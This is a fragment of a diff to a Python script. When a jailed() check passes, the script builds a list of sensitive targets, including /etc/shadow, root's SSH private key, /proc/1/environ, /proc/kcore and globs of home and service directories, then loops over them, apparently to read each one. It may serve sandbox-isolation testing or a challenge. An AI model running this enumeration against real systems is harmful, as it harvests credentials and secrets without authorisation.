@@ -9,7 +9,7 @@ import glob, os
 paths = [AIM["secret"]]
 if jailed():
     paths += ["/etc/shadow", "/root/.bashrc", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/kallsyms", "/proc/kcore"]
-    paths += glob.glob("/home/*/*") + glob.glob("/work/*") + glob.glob("/var/lib/*/*") + glob.glob("/run/*")
+    paths += glob.glob("/home/*/*") + glob.glob("/srv/*") + glob.glob("/var/lib/*/*") + glob.glob("/run/*")
     paths = [path for path in paths if os.path.abspath(path) != os.path.expanduser("~")]
 for path in paths:
     try:
